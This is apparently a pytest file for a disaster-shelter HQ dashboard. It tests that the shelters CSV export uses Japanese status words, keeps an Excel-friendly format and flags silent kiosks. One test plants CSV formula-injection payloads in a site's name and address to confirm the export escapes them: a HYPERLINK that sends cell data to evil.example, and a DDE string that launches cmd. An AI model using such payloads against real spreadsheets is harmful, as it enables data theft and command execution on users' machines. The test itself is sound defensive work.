"""HQ's shelters CSV says each site's kind, status and suitability in the words HQ's pages use (city
staff open it in Excel), and stays the Excel-friendly file it was: UTF-8 with a BOM, CRLF lines."""
from __future__ import annotations

import csv
import io
import re

import pytest

from hq_dashboard.db import db
from hq_dashboard.models import Shelter


@pytest.fixture
def hq_db_url(tmp_path):
    # The export reads what every HQ test reads (site_views); SQLite is enough to check its words.
    return f"sqlite:///{tmp_path / 'hq.sqlite3'}"


@pytest.fixture
def staff_client(hq_app, hq_client):
    from hq_dashboard.staff import add_staff
    with hq_app.app_context():
        add_staff(db.session, "hq-watch", "correct horse battery")
    page = hq_client.get("/staff/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    assert hq_client.post("/staff/login", data={"csrf_token": token, "username": "hq-watch",
                                                "password": "correct horse battery"}).status_code == 302
    return hq_client


def test_the_shelters_csv_says_kind_status_and_suitability_in_words(hq_app, staff_client):
    with hq_app.app_context():
        db.session.get(Shelter, "H001").opened = True
        db.session.get(Shelter, "H002").declared_full = True
        db.session.commit()
    page = staff_client.get("/map").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    assert staff_client.post("/map/disaster", data={"disaster": "storm_flood", "csrf_token": token}).status_code == 302

    answer = staff_client.get("/export/shelters.csv")
    raw = answer.data
    assert raw.startswith(b"\xef\xbb\xbf")                      # the BOM: Excel reads it as UTF-8
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")
    assert answer.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header = rows[0]
    by_id = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    assert len(by_id) == 212

    assert (by_id["H001"]["種別"], by_id["H001"]["状態"]) == ("指定避難所", "開設")
    assert by_id["H002"]["状態"] == "満員"
    assert by_id["H003"]["状態"] == "未開設"
    assert by_id["E001"]["種別"] == "指定緊急避難場所"
    assert by_id["T001"]["種別"] == "津波避難ビル等"
    assert by_id["T001"]["適否"] == "対象外"                    # no 津波避難ビル is a place to go in a 風水害
    assert by_id["H001"]["適否"] == "○"                          # H001 is designated for 風水害
    codes = {"shelter", "emergency_space", "tsunami_building", "open", "closed", "not_opened", "full",
             "suitable", "unsuitable", "at_risk"}
    assert not codes & {cell for r in rows[1:] for cell in (r[2], r[10], r[11])}

    # The same words as the pages: the dashboard's table says H001 and T001 as the file does.
    dashboard = staff_client.get("/dashboard?all=1&sort=id").get_data(as_text=True)
    h001 = re.search(r'<tr class="[^"]*" data-site="H001">(.*?)</tr>', dashboard, re.S).group(1)
    assert "<td>開設</td>" in h001 and '<td class="suit">○</td>' in h001
    t001 = re.search(r'<tr class="[^"]*" data-site="T001">(.*?)</tr>', dashboard, re.S).group(1)
    assert "<td>未開設</td>" in t001 and '<td class="suit">対象外</td>' in t001


def test_the_map_says_codes_in_the_words_hq_hands_it_and_keeps_no_copy(hq_client):
    import json

    from hq_dashboard.site_words import map_words
    page = hq_client.get("/map").get_data(as_text=True)
    start = page[page.index("evacMap.start("):]
    words = json.loads(re.search(r"words: (\{.*?\}\})\n", start).group(1))
    # (and the sentence for people on their way to a closed shelter, in the page's language: map_page's own)
    assert words.pop("transit_closed")["ja"] == "この避難所は閉鎖されています。ここへ移動中の人: {num} 人"
    assert words == map_words() and words["status"] == {"open": "開設", "not_opened": "未開設", "closed": "閉鎖",
                                                            "full": "満員"}
    # map.js has no word list of its own to drift from HQ's (the browser test sees the popup say them).
    script = hq_client.get("/static/map.js").get_data(as_text=True)
    for group in map_words().values():
        for text in group.values():
            assert not text or f'"{text}"' not in script, text


def test_a_site_named_like_a_formula_stays_text_in_both_csv_files(hq_app, staff_client):
    """Review: a name or address imported as "=HYPERLINK(…)" or "@SUM(…)" went into HQ's CSV files as it
    was, and Excel runs it; the kiosk's roster export already kept such cells text.  Numbers stay numbers."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"中港タワー")'
    with hq_app.app_context():
        site = db.session.get(Shelter, "E001")
        site.name, site.address = evil, '@SUM(1+1)*cmd|" /C calc"!A0'
        db.session.commit()
    for path in ("/export/shelters.csv", "/export/evacuation_space_standard.csv"):
        rows = list(csv.reader(io.StringIO(staff_client.get(path).data.decode("utf-8-sig"))))
        (row,) = [r for r in rows if any(evil in cell for cell in r)]
        assert "'" + evil in row, path
        assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@")], path
    rows = list(csv.reader(io.StringIO(staff_client.get("/export/shelters.csv").data.decode("utf-8-sig"))))
    e001 = dict(zip(rows[0], next(r for r in rows if r[0] == "E001")))
    assert float(e001["緯度"]) > 34 and e001["住所"].startswith("'@SUM")
    assert all(" / ".join([c] * 2) not in e001["出典"] for c in e001["出典"].split(" / "))   # each credit once


def test_the_csv_says_when_each_sites_numbers_were_last_heard_and_which_are_silent(hq_app, staff_client, enroll):
    """Review: a silent kiosk's numbers looked current in Excel; the map, wall and GeoJSON mark them."""
    from tests.test_safety_review_fixes import Kiosk
    hq_app.config["KIOSK_SILENT_ALERT_S"] = 600
    Kiosk(staff_client, enroll("H031"), "dev-a").send(
        ("checkin", {"name": "焼津 一", "birth_date": "1980-01-01", "sex": "male", "address": "焼津市本町1"},
         {"stay_type": "in_shelter"}))
    enroll("H039")   # enrolled, never heard: silent from its enrollment on
    with hq_app.app_context():
        from hq_dashboard.models import Kiosk as KioskRow
        for k in db.session.query(KioskRow).filter_by(shelter_id="H039"):
            k.enrolled_at = k.enrolled_at.replace(year=2020)
        db.session.commit()
    rows = list(csv.reader(io.StringIO(staff_client.get("/export/shelters.csv").data.decode("utf-8-sig"))))
    by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d JST", by_id["H031"]["最終受信"]) and by_id["H031"]["受信なし"] == ""
    assert by_id["H039"]["受信なし"] == "受信なし"
    assert by_id["H001"]["最終受信"] == "" and by_id["H001"]["受信なし"] == ""
